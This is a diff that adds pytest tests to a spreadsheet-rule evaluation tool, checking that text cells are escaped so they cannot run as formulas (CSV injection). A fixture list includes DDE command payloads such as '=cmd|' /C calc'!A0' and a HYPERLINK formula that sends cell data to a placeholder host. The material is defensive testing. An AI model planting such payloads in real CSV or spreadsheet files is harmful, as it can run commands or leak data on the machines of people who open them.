@@ -147,3 +147,68 @@ def test_an_unnamed_column_is_named_by_its_letter_streamed_or_not(tmp_path, rule
         rows = list(read_rows(out))
         assert [r["B"] for r in rows] == ["a", ""] and rows[0]["等次"] == "好"
         assert rows[1]["error"].endswith("must be true or false, not 'no'")
+
+
+# ---------------------------------------------------------------- #7 formula injection
+
+#: Text cells a spreadsheet would run as formulas (OWASP "CSV injection"), and look-alikes.
+FORMULAS = ['=HYPERLINK("http://x/?"&B2,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C x'!A0",
+            "-2+3+cmd|' /C x'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted",
+            "''+twice", "+86 138 0000 0000", "-", "=", "'"]
+#: Plain numbers stay numbers, signs included.
+NUMBERS = ["-3", "+5", "-0.5", "-80%", "-2/3", "-1e3", "'-3"]
+
+
+def _formula_file(tmp_path: Path) -> Path:
+    cells = FORMULAS + NUMBERS
+    rows = [["编号", "=1+2", "x", "ok"]]
+    rows += [[cell, cell, "-3" if i % 2 else "1.5", "是"] for i, cell in enumerate(cells)]
+    rows.append(["坏", "", "2", "=1"])  # an error message quoting a cell
+    return write_csv(tmp_path / "in.csv", rows)
+
+
+def _spreadsheet_would_run(text: str) -> bool:
+    import re
+
+    return bool(re.match(r"[=+\-@\t\r]", text)) and not re.fullmatch(
+        r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?%?|[+-]?[0-9]+/[0-9]+", text)
+
+
+@pytest.mark.parametrize("out_name", ["out.csv", "out.xlsx", "stream.csv"])
+def test_no_text_cell_is_written_as_a_formula(out_name, tmp_path, rules):
+    """#7: a text cell `=HYPERLINK(…)` or `=cmd|…` came back as a live formula in .xlsx and raw
+    in .csv. Every text cell written (the user's columns, the header, results, errors) is stored
+    as text in .xlsx and prefixed with ' in .csv when a spreadsheet would take it for a formula;
+    numbers stay numbers; evalrules reads its own output back to the same values."""
+    src = _formula_file(tmp_path)
+    out = tmp_path / out_name
+    stream = ["--stream"] if out_name.startswith("stream") else []
+    done = run_cli("eval", rules, src, "-o", out, *stream)
+    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
+    if out.suffix == ".csv":
+        with out.open(encoding="utf-8-sig", newline="") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if _spreadsheet_would_run(c)]
+        assert "'=HYPERLINK(\"http://x/?\"&B2,\"click\")" in cells
+        assert {"-3", "-6", "'=1+2", "'=already quoted", "''+twice"} <= set(cells)
+    else:
+        sheet = openpyxl.load_workbook(out).active
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert not [c.value for c in cells if c.data_type == "f"]
+        assert {c.value for c in cells if c.data_type == "n"} - {None} == {-6, 3}  # results
+        assert [c.value for c in cells if c.value == "-3"]  # a CSV's text, as text, unquoted
+        assert not [c for c in cells if c.value == "-3" and c.quotePrefix]
+        assert all(c.quotePrefix for c in cells if isinstance(c.value, str)
+                   and _spreadsheet_would_run(c.value))
+    again = list(read_rows(out))
+    original = list(read_rows(src))
+    if out.suffix == ".xlsx":  # XML's line ends; an empty cell is no value
+        for r in original:
+            r.update({k: r[k].replace("\r", "\n") or None for k in ("编号", "=1+2")})
+    assert [{k: r[k] for k in ("编号", "=1+2")} for r in again] == \
+        [{k: r[k] for k in ("编号", "=1+2")} for r in original]
+    assert [r["x"] for r in again] == [r["x"] for r in original]
+    assert again[-1]["error"].endswith("must be true or false, not '=1'")
+    regraded = tmp_path / f"again{out.suffix}"
+    assert run_cli("eval", rules, out, "-o", regraded, *stream).returncode == 1
+    assert list(read_rows(regraded)) == again
